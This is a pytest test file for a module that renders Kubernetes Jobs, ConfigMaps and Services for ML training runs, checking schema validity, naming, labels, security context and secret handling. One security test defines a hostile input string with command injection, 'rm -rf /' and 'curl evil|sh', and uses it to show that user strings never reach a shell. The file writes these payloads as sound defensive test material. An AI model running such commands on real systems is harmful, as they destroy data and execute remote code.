"""render: the Kubernetes objects of a run — valid against the official schemas, named
stably, secure, and never handing a user string to a shell or to the kubelet's `$(VAR)`
expansion."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from xstilts.operator.cluster.render import (
    DEFAULT_RUNS_PVC,
    KUEUE_QUEUE_LABEL,
    MAX_JOB_NAME,
    RUN_CONFIG_PATH,
    OwnerRef,
    for_cluster,
    job_name,
    memory_bytes,
    render_experiment,
    render_run,
    result_file,
    secret_commands,
    shm_size,
)
from xstilts.operator.experiment.plan import Plan, PlannedRun, plan
from xstilts.operator.experiment.spec import ExperimentSpec, clean_label_value, load_spec_text
from xstilts.trainer.config import ExitCode, RunConfig, Stage
from xstilts.trainer.rundir import RunDir

EXAMPLES_DIR = Path(__file__).parents[2] / "examples"
EXAMPLES = sorted(EXAMPLES_DIR.glob("*.yaml"))
KUBERNETES_VERSIONS = ("1.33.0", kubernetes_validate.latest_version())
DNS_1035_LABEL = re.compile(r"^[a-z]([-a-z0-9]*[a-z0-9])?$")
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
REQUIRED_LABELS = (
    "xstilts.dev/experiment", "xstilts.dev/run-id", "xstilts.dev/stage", "xstilts.dev/model",
    "xstilts.dev/intermediate", "xstilts.dev/target", "app.kubernetes.io/managed-by",
)
OWNER = OwnerRef(apiVersion="xstilts.dev/v1alpha1", kind="Experiment", name="scaling",
                 uid="6f1c1d2e-0000-4000-8000-000000000001")


def load(name: str) -> tuple[ExperimentSpec, Plan]:
    spec = load_spec_text((EXAMPLES_DIR / f"{name}.yaml").read_text(), name)
    return spec, plan(spec)


def by_kind(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {o["kind"]: o for o in objects}


def container(job: dict[str, Any]) -> dict[str, Any]:
    containers = job["spec"]["template"]["spec"]["containers"]
    assert len(containers) == 1
    return containers[0]


def env_of(job: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {e["name"]: e for e in container(job)["env"]}


def first(p: Plan, *, model: str, stage: Stage, dependent: bool = False) -> PlannedRun:
    return next(r for r in p.runs if r.labels.model == model and r.config.stage is stage
                and bool(r.depends_on) == dependent)


def representative_runs(p: Plan) -> list[PlannedRun]:
    """One run of each shape: per model, an intermediate run, a baseline target run and a
    target run that starts from a checkpoint. The other runs differ only in strings."""
    shapes: dict[tuple[str, str, bool], PlannedRun] = {}
    for run in p.runs:
        shapes.setdefault((run.labels.model, run.config.stage.value, bool(run.depends_on)), run)
    return list(shapes.values())


def validate(obj: dict[str, Any]) -> None:
    for version in KUBERNETES_VERSIONS:
        try:
            kubernetes_validate.validate(obj, version, strict=True)
        except kubernetes_validate.ValidationError as e:
            pytest.fail(f"{obj['kind']} {obj['metadata']['name']} is invalid for Kubernetes {version}:"
                        f" {'.'.join(map(str, e.path))}: {e.message}")


# --- schemas -------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.stem)
def test_every_shape_of_run_in_every_example_validates_against_kubernetes_schemas(example: Path) -> None:
    spec, p = load(example.stem)
    kinds = set()
    for run in representative_runs(p):
        for obj in render_run(run, spec, OWNER):
            validate(obj)
            kinds.add(obj["kind"])
    assert {"ConfigMap", "Job"} <= kinds


@pytest.mark.slow
@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.stem)
def test_every_object_of_every_example_validates_against_kubernetes_schemas(example: Path) -> None:
    spec, p = load(example.stem)
    for obj in render_experiment(p, spec, OWNER):
        validate(obj)


def test_multi_node_run_is_an_indexed_job_with_a_headless_service_for_the_rendezvous() -> None:
    spec, p = load("scaling")
    run = first(p, model="xxl", stage=Stage.INTERMEDIATE)
    objects = render_run(run, spec, OWNER)
    assert [o["kind"] for o in objects] == ["ConfigMap", "Service", "Job"]
    for obj in objects:
        validate(obj)
    service, job = objects[1], objects[2]
    name = job_name("scaling", run.run_id)
    assert service["metadata"]["name"] == job["metadata"]["name"] == name
    assert service["spec"]["clusterIP"] == "None"
    assert service["spec"]["publishNotReadyAddresses"] is True
    assert service["spec"]["ports"][0]["port"] == 29500

    job_spec = job["spec"]
    assert job_spec["completionMode"] == "Indexed"
    assert job_spec["completions"] == job_spec["parallelism"] == 2
    pod = job_spec["template"]
    assert pod["spec"]["subdomain"] == name  # pod i is <job>-<i>.<job>
    selector = service["spec"]["selector"]
    assert selector.items() <= pod["metadata"]["labels"].items()

    command = container(job)["command"]
    assert command[:3] == ["python", "-m", "xstilts.trainer.launch"]
    assert "--nproc_per_node=8" in command and "--nnodes=2" in command
    assert f"--master_addr={name}-0.{name}" in command
    assert "--node_rank=$(JOB_COMPLETION_INDEX)" in command
    # the workers keep the pod's grace period to checkpoint on SIGTERM, less torchrun's margin
    assert f"--shutdown_timeout={job_spec['template']['spec']['terminationGracePeriodSeconds'] - 20}" in command
    assert command[-3:] == ["-m", "xstilts.trainer", RUN_CONFIG_PATH]
    index = env_of(job)["JOB_COMPLETION_INDEX"]["valueFrom"]["fieldRef"]["fieldPath"]
    assert index == "metadata.annotations['batch.kubernetes.io/job-completion-index']"
    resources = container(job)["resources"]
    assert resources["requests"]["nvidia.com/gpu"] == resources["limits"]["nvidia.com/gpu"] == 8
    # One broken collective fails both ranks: the budget of retries is per attempt.
    assert job_spec["backoffLimit"] == spec.cluster.backoff_limit * 2


@pytest.mark.parametrize(("model", "expected"), [
    ("base", ["python", "-m", "xstilts.trainer", RUN_CONFIG_PATH]),
    ("xl", ["python", "-m", "xstilts.trainer.launch", "--nproc_per_node=4", "--nnodes=1", "--standalone",
            "--max_restarts=0", "--shutdown_timeout=280", "-m", "xstilts.trainer", RUN_CONFIG_PATH]),
])
def test_single_node_commands(model: str, expected: list[str]) -> None:
    spec, p = load("scaling")
    objects = render_run(first(p, model=model, stage=Stage.TARGET), spec)
    assert [o["kind"] for o in objects] == ["ConfigMap", "Job"]
    assert container(objects[-1])["command"] == expected


def test_cpu_run_has_no_gpu_request_and_runs_deepspeed_on_cpu() -> None:
    spec, p = load("demo")
    job = render_run(p.runs[0], spec)[-1]
    resources = container(job)["resources"]
    assert "nvidia.com/gpu" not in resources["requests"]
    assert resources["requests"] == resources["limits"]
    assert env_of(job)["DS_ACCELERATOR"]["value"] == "cpu"


# --- the run's config and storage ----------------------------------------------------------


def test_config_map_holds_the_run_config_with_the_pod_storage_root() -> None:
    spec, p = load("scaling")
    run = first(p, model="large", stage=Stage.TARGET, dependent=True)
    config_map, job = render_run(run, spec)
    config = RunConfig.model_validate_json(config_map["data"]["run.json"])
    assert config.run_id == run.run_id  # storage is not part of a run's identity
    assert config.storage_root == "/data/scaling"
    assert config.init_model_dir == f"/data/scaling/runs/{run.depends_on[0]}/model"
    assert config_map["immutable"] is True
    volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
    mounts = {m["name"]: m for m in container(job)["volumeMounts"]}
    assert volumes["run-config"]["configMap"]["name"] == config_map["metadata"]["name"]
    assert mounts["run-config"] == {"name": "run-config", "mountPath": "/etc/xstilts", "readOnly": True}
    assert volumes["runs"]["persistentVolumeClaim"]["claimName"] == "xstilts-runs"
    assert mounts["runs"]["mountPath"] == "/data"


def test_result_file_is_where_the_pod_writes_it() -> None:
    spec, p = load("scaling")
    run = p.runs[0]
    config = RunConfig.model_validate_json(render_run(run, spec)[0]["data"]["run.json"])
    expected = f"/data/scaling/runs/{run.run_id}/result.json"
    assert result_file(spec, run.run_id) == str(RunDir.of(config).result) == expected


def test_spec_without_storage_uses_the_default_runs_volume() -> None:
    spec, p = load("demo")
    job = render_run(p.runs[0], spec)[-1]
    volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
    assert volumes["runs"]["persistentVolumeClaim"]["claimName"] == DEFAULT_RUNS_PVC


def spec_with(**cluster: Any) -> tuple[ExperimentSpec, Plan]:
    spec = ExperimentSpec.model_validate({
        "name": "mini",
        "models": [{"name": "base", "pretrained": "FacebookAI/xlm-roberta-base", "resources": {"gpus": 1}}],
        "intermediateTasks": ["mnli"],
        "targets": ["xnli"],
        "cluster": cluster,
    })
    return spec, plan(spec)


def test_the_specs_own_volume_and_mount_path_reach_the_pod_and_the_s3_secret_is_loaded_whole() -> None:
    spec, p = spec_with(storage={"pvc": "team-runs", "mountPath": "/mnt/runs"}, secrets={"s3": "s3-creds"})
    config_map, job = render_run(p.runs[0], spec)
    validate(job)
    assert json.loads(config_map["data"]["run.json"])["storage_root"] == "/mnt/runs/mini"
    assert env_of(job)["HF_HOME"]["value"] == "/mnt/runs/.cache/huggingface"
    assert {"secretRef": {"name": "s3-creds"}} in container(job)["envFrom"]
    volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
    assert volumes["runs"]["persistentVolumeClaim"]["claimName"] == "team-runs"
    assert {m["name"]: m for m in container(job)["volumeMounts"]}["runs"]["mountPath"] == "/mnt/runs"


@pytest.mark.parametrize(("memory", "processes", "expected"), [
    ("64Gi", 1, "16Gi"), ("512Gi", 8, "128Gi"), ("512Gi", 1, "16Gi"), ("1Gi", 1, "256Mi"), ("100M", 1, "64Mi"),
])
def test_shared_memory_is_a_quarter_of_the_pod_memory_capped_per_process(memory: str, processes: int,
                                                                          expected: str) -> None:
    assert shm_size(memory, processes) == expected


def test_memory_quantities() -> None:
    assert memory_bytes("64Gi") == 64 * 2**30
    assert memory_bytes("1.5Gi") == 3 * 2**29
    assert memory_bytes("500M") == 500_000_000
    with pytest.raises(ValueError, match="not a quantity"):
        memory_bytes("lots")


# --- names and labels ----------------------------------------------------------------------


def test_job_name_is_the_experiment_and_the_run_id() -> None:
    assert job_name("scaling", "37d7a9a72a48") == "scaling-37d7a9a72a48"
    assert job_name("2024-study", "37d7a9a72a48") == "x-2024-study-37d7a9a72a48"  # Services need a letter first
    long = job_name("e" * 40 + "-x" * 20, "37d7a9a72a48")
    assert len(long) <= MAX_JOB_NAME and long.endswith("-37d7a9a72a48")


@given(experiment=st.text(max_size=80), run_id=st.text(alphabet="0123456789abcdef", min_size=12, max_size=12))
def test_job_names_are_valid_dns_labels_stable_and_keep_the_run_id(experiment: str, run_id: str) -> None:
    name = job_name(experiment, run_id)
    assert DNS_1035_LABEL.match(name) and len(name) <= MAX_JOB_NAME
    assert name == job_name(experiment, run_id)
    assert name.endswith(run_id)
    # The Indexed Job hostname of the last of 512 nodes is still a DNS label.
    assert len(f"{name}-511") <= 63


@given(st.text(max_size=100))
def test_label_values_are_always_valid(value: str) -> None:
    assert LABEL_VALUE.match(clean_label_value(value))
    assert len(clean_label_value(value)) <= 63


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.stem)
def test_every_object_carries_the_run_labels_and_unique_job_names(example: Path) -> None:
    spec, p = load(example.stem)
    objects = render_experiment(p, spec, OWNER)
    jobs = [o for o in objects if o["kind"] == "Job"]
    assert len(jobs) == len(p.runs)
    assert len({j["metadata"]["name"] for j in jobs}) == len(jobs)
    for obj in objects:
        labels = obj["metadata"]["labels"]
        for key in REQUIRED_LABELS:
            assert LABEL_VALUE.match(labels[key]), (key, labels[key])
        assert labels["app.kubernetes.io/managed-by"] == "xstilts"
        assert obj["metadata"]["namespace"] == spec.cluster.namespace
        assert obj["metadata"]["ownerReferences"] == [{
            "apiVersion": "xstilts.dev/v1alpha1", "kind": "Experiment", "name": "scaling",
            "uid": OWNER.uid, "controller": True, "blockOwnerDeletion": True}]
    for job, run in zip(jobs, p.runs, strict=True):
        labels = job["metadata"]["labels"]
        assert labels["xstilts.dev/run-id"] == run.run_id
        assert labels["xstilts.dev/stage"] == run.config.stage.value
        assert labels["xstilts.dev/model"] == run.labels.model
        assert labels["xstilts.dev/intermediate"] == run.labels.intermediate
        assert labels["xstilts.dev/target"] == (run.labels.target or "none")
        assert job["spec"]["template"]["metadata"]["labels"]["xstilts.dev/run-id"] == run.run_id


def test_objects_without_an_owner_have_no_owner_references() -> None:
    spec, p = load("demo")
    assert all("ownerReferences" not in o["metadata"] for o in render_run(p.runs[0], spec))


def test_objects_live_in_their_owners_namespace() -> None:
    spec, p = load("demo")
    obj = {"apiVersion": "xstilts.dev/v1alpha1", "kind": "Experiment",
           "metadata": {"name": "demo", "namespace": "team-a", "uid": "u-1"}}
    owner = OwnerRef.of(obj)
    assert owner.to_k8s() == {"apiVersion": "xstilts.dev/v1alpha1", "kind": "Experiment", "name": "demo",
                              "uid": "u-1", "controller": True, "blockOwnerDeletion": True}
    # An ownerReference cannot cross namespaces: the Experiment's namespace wins over the spec's.
    assert spec.cluster.namespace == "default"
    assert {o["metadata"]["namespace"] for o in render_run(p.runs[0], spec, owner)} == {"team-a"}
    assert {o["metadata"]["namespace"] for o in render_run(p.runs[0], spec)} == {"default"}


def test_render_is_deterministic() -> None:
    spec, p = load("scaling")
    assert render_experiment(p, spec, OWNER) == render_experiment(p, spec, OWNER)


# --- Kueue, failures, lifetimes ------------------------------------------------------------


def test_kueue_queue_label_and_suspended_creation_only_with_a_queue() -> None:
    spec, p = load("scaling")
    job = render_run(p.runs[0], spec)[-1]
    assert job["metadata"]["labels"][KUEUE_QUEUE_LABEL] == "gpu-research"
    assert job["spec"]["suspend"] is True
    assert KUEUE_QUEUE_LABEL not in job["spec"]["template"]["metadata"]["labels"]
    spec, p = load("phang2020")
    job = render_run(p.runs[0], spec)[-1]
    assert KUEUE_QUEUE_LABEL not in job["metadata"]["labels"]
    assert "suspend" not in job["spec"]


def test_failure_policy_ignores_disruptions_and_fails_invalid_configs_at_once() -> None:
    spec, p = load("scaling")
    job_spec = render_run(p.runs[0], spec)[-1]["spec"]
    pod = job_spec["template"]["spec"]
    assert pod["restartPolicy"] == "Never"
    rules = job_spec["podFailurePolicy"]["rules"]
    assert rules[0] == {"action": "Ignore", "onPodConditions": [{"type": "DisruptionTarget", "status": "True"}]}
    assert rules[1]["action"] == "FailJob"
    assert rules[1]["onExitCodes"] == {"containerName": "trainer", "operator": "In", "values": [ExitCode.INVALID]}
    assert rules[2]["action"] == "Count"
    assert rules[2]["onExitCodes"]["values"] == [ExitCode.INTERRUPTED]
    assert job_spec["activeDeadlineSeconds"] == 259200
    assert job_spec["ttlSecondsAfterFinished"] == 86400
    assert job_spec["backoffLimit"] == 3
    assert pod["terminationGracePeriodSeconds"] >= 300


def test_scheduling_constraints_come_from_the_spec() -> None:
    spec, p = load("scaling")
    pod = render_run(p.runs[0], spec)[-1]["spec"]["template"]["spec"]
    assert pod["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    shm = next(v for v in pod["volumes"] if v["name"] == "dshm")
    assert shm["emptyDir"]["medium"] == "Memory"


# --- security ------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.stem)
def test_restricted_security_context(example: Path) -> None:
    spec, p = load(example.stem)
    for run in representative_runs(p):
        job = render_run(run, spec)[-1]
        pod = job["spec"]["template"]["spec"]
        assert pod["securityContext"]["runAsNonRoot"] is True
        assert pod["securityContext"]["runAsUser"] == 1000
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
        assert pod["automountServiceAccountToken"] is False
        context = container(job)["securityContext"]
        assert context["allowPrivilegeEscalation"] is False
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert context["readOnlyRootFilesystem"] is True
        assert context["privileged"] is False
        # A read-only root needs somewhere to write: /tmp and /dev/shm are emptyDirs.
        mounts = {m["mountPath"] for m in container(job)["volumeMounts"]}
        assert {"/tmp", "/dev/shm"} <= mounts
        assert env_of(job)["HOME"]["value"] == "/tmp"
        assert "hostPath" not in json.dumps(pod)


def test_secrets_are_referenced_by_name_never_included() -> None:
    spec, p = spec_with(secrets={"hfToken": "hf-token", "mlflow": "mlflow-credentials"})
    objects = render_run(p.runs[0], spec)
    assert "Secret" not in {o["kind"] for o in objects}
    job = objects[-1]
    hf = env_of(job)["HF_TOKEN"]
    assert hf == {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf-token", "key": "token"}}}
    assert container(job)["envFrom"] == [{"secretRef": {"name": "mlflow-credentials"}}]


HOSTILE = "$(HF_TOKEN); rm -rf / `id` && curl evil|sh ${PATH} 'x' \"y\""


def test_user_strings_never_reach_a_shell_or_variable_expansion() -> None:
    spec = ExperimentSpec.model_validate({
        "name": "mini",
        "models": [{"name": "base", "pretrained": f"org/model {HOSTILE}", "parameters": 1000,
                    "resources": {"gpus": 2, "zeroStage": 0}}],
        "intermediateTasks": ["mnli"],
        "targets": ["xnli"],
        "data": {"mnli": f"/data/{HOSTILE}"},
        "mlflow": {"trackingUri": "http://mlflow:5000/$(HF_TOKEN)"},
        "cluster": {"secrets": {"hfToken": "hf-token"}},
    })
    for run in plan(spec).runs:
        config_map, job = render_run(run, spec)
        validate(job)
        command = container(job)["command"]
        assert all(isinstance(word, str) for word in command)
        assert not {"sh", "bash", "/bin/sh", "/bin/bash", "-c"} & set(command)
        assert "args" not in container(job)
        assert not any(HOSTILE in word or "HF_TOKEN" in word for word in command)
        # The kubelet expands $(VAR) in env values; `$$` keeps the URI literal.
        assert env_of(job)["MLFLOW_TRACKING_URI"]["value"] == "http://mlflow:5000/$$(HF_TOKEN)"
        # The user's strings travel only inside run.json, which nothing interprets.
        assert HOSTILE in RunConfig.model_validate_json(config_map["data"]["run.json"]).model


# --- every byte pinned -----------------------------------------------------------------------


def uncommon_spec() -> tuple[ExperimentSpec, Plan]:
    """What the examples do not cover: a runs volume of its own with the s3 secret, a CPU model and a
    multi-node one, a name that needs a prefix, a deadline, no TTL and a URI the kubelet
    would expand."""
    spec = ExperimentSpec.model_validate({
        "name": "9-lives",
        "models": [{"name": "cpu", "pretrained": "org/cpu", "parameters": 1000, "resources": {"gpus": 0}},
                   {"name": "wide", "pretrained": "org/wide", "parameters": 10**10,
                    "resources": {"gpus": 4, "nodes": 3, "memory": "100M"}}],
        "intermediateTasks": ["mnli", "squad_v2"],
        "targets": ["xnli", "pawsx"],
        "mlflow": {"trackingUri": "http://mlflow/$(HF_TOKEN)"},
        "cluster": {"storage": {"pvc": "team-runs", "mountPath": "/mnt/runs"},
                    "secrets": {"s3": "s3-creds", "mlflow": "ml"},
                    "activeDeadlineSeconds": 600, "ttlSecondsAfterFinished": None},
    })
    return spec, plan(spec)


# sha256 of the JSON of render_experiment (keys in insertion order, so key order is pinned
# too). Any change to what render produces changes these: when the change is intended,
# check a rendered run by hand and put the new digest here.
RENDER_DIGESTS = {
    # demo: the small model trains six epochs in both stages (perModel.small.epochs): the 48
    # objects of small's runs changed (epochs, run ids); the other 96 are byte-identical
    # (checked by rendering both).
    "demo": "abf34054b5089a9de15bddbb82b611174eecc8df699cc0abc447de443f60a985",
    # phang2020 gained the two variant arms (mnli-mlm, mnli-translate-train: their own runs) and
    # data.mnli (translate-train reads MNLI locally), which enters the RUN.json task_data of the
    # mnli and all9 phase-2 runs; every other object of the earlier render is byte-identical and
    # no run id changed (checked by rendering both).
    "phang2020": "f3db41bc6af9f08ca8a5d6fd9025ca463c8d227df6c99e4aa4340eacedbb7d78",
    "scaling": "0bed3b28f846542bdac8bc7ba945e990d9e93ca660d6ddbc26e91d64a58fc8e7",
    "scaling-no-owner": "9a25a86cbf3e4a7d29408f70dd596f37d91633b506c5c15cf0f849ac1b5d8efe",
    "uncommon": "f996fa37c8f820d9938686130bbffb5fa11f98644f4306efdaded8bc4b7fabf1",
}


def rendered_digest(case: str) -> str:
    owner: OwnerRef | None = OWNER
    if case == "uncommon":
        spec, p = uncommon_spec()
        owner = OwnerRef(apiVersion="xstilts.dev/v1alpha1", kind="Experiment", name="x", uid="u", namespace="ns")
    else:
        spec, p = load(case.removesuffix("-no-owner"))
        if case.endswith("-no-owner"):
            owner = None
    objects = render_experiment(p, spec, owner)
    # The controller renders run by run: the same objects as the whole experiment at once.
    assert objects[:3] == [*render_run(p.runs[0], spec, owner), *render_run(p.runs[1], spec, owner)][:3]
    return hashlib.sha256(json.dumps(objects).encode()).hexdigest()


@pytest.mark.parametrize("case", list(RENDER_DIGESTS))
def test_rendering_is_pinned_byte_for_byte(case: str) -> None:
    assert rendered_digest(case) == RENDER_DIGESTS[case], f"render of {case} changed (see RENDER_DIGESTS)"


def test_rendered_objects_share_no_dict_or_list() -> None:
    """What all runs have in common is worked out once, but every object gets its own
    dicts and lists: a caller changing one run's objects never changes another's."""
    spec, p = load("scaling")
    seen: set[int] = set()
    pending: list[Any] = render_experiment(p, spec, OWNER)
    while pending:
        value = pending.pop()
        if isinstance(value, dict | list):
            assert id(value) not in seen, f"shared between objects: {value}"
            seen.add(id(value))
            pending.extend(value.values() if isinstance(value, dict) else value)


def test_a_cluster_spec_without_an_mlflow_server_logs_to_the_in_cluster_one() -> None:
    spec, _ = spec_with()
    assert spec.mlflow.tracking_uri is None
    clustered = for_cluster(spec)
    assert clustered.mlflow.tracking_uri == "http://xstilts-mlflow.xstilts.svc:5000"
    p = plan(clustered)
    job = render_run(p.runs[0], clustered)[-1]
    assert env_of(job)["MLFLOW_TRACKING_URI"]["value"] == "http://xstilts-mlflow.xstilts.svc:5000"
    config_map = render_run(p.runs[0], clustered)[0]
    assert json.loads(config_map["data"]["run.json"])["tracking"]["tracking_uri"] == clustered.mlflow.tracking_uri
    # Same runs: where they log is not part of a run's identity.
    assert [r.run_id for r in p.runs] == [r.run_id for r in plan(spec).runs]
    named = spec.model_copy(update={"mlflow": spec.mlflow.model_copy(update={"tracking_uri": "https://ml.example"})})
    assert for_cluster(named) is named
    assert for_cluster(spec, "http://mlflow.other:5000").mlflow.tracking_uri == "http://mlflow.other:5000"


@pytest.mark.parametrize("uri", ["sqlite:////data/mini/mlflow.db", "file:///data/mlruns"])
def test_a_tracking_store_on_the_pods_filesystem_is_rejected_for_a_cluster(uri: str) -> None:
    spec, _ = spec_with()
    spec = spec.model_copy(update={"mlflow": spec.mlflow.model_copy(update={"tracking_uri": uri})})
    with pytest.raises(ValueError, match=r"^mlflow\.trackingUri: .* leave mlflow\.trackingUri out to log to the"
                                         r" in-cluster MLflow server \(http://xstilts-mlflow"):
        for_cluster(spec)


def test_secret_commands_create_each_named_secret_with_the_keys_runs_read() -> None:
    spec, _ = spec_with(secrets={"hfToken": "hf-token", "mlflow": "creds", "s3": "creds"})
    commands = secret_commands(spec, "lab")
    assert commands["hf-token"] == ("kubectl -n lab create secret generic hf-token"
                                    " --from-literal='token=<Hugging Face token>'")
    assert commands["creds"].startswith("kubectl -n lab create secret generic creds ")
    for key in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        assert f"--from-literal='{key}=" in commands["creds"]
    assert secret_commands(spec_with()[0], "lab") == {}


def test_submit_rejects_a_sqlite_tracking_store_for_a_cluster(tmp_path: Path) -> None:
    from typer.testing import CliRunner
    from xstilts.operator.cli import app

    spec = yaml.safe_load((EXAMPLES_DIR / "demo.yaml").read_text())
    spec["mlflow"] = {"trackingUri": "sqlite:////data/demo/mlflow.db"}
    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump(spec))
    for mode in ([], ["--no-controller"]):
        result = CliRunner().invoke(app, ["submit", str(path), "--dry-run", *mode])
        assert result.exit_code == 2, result.output
        assert "mlflow.trackingUri: sqlite: is a store on the pods' own filesystem" in result.output
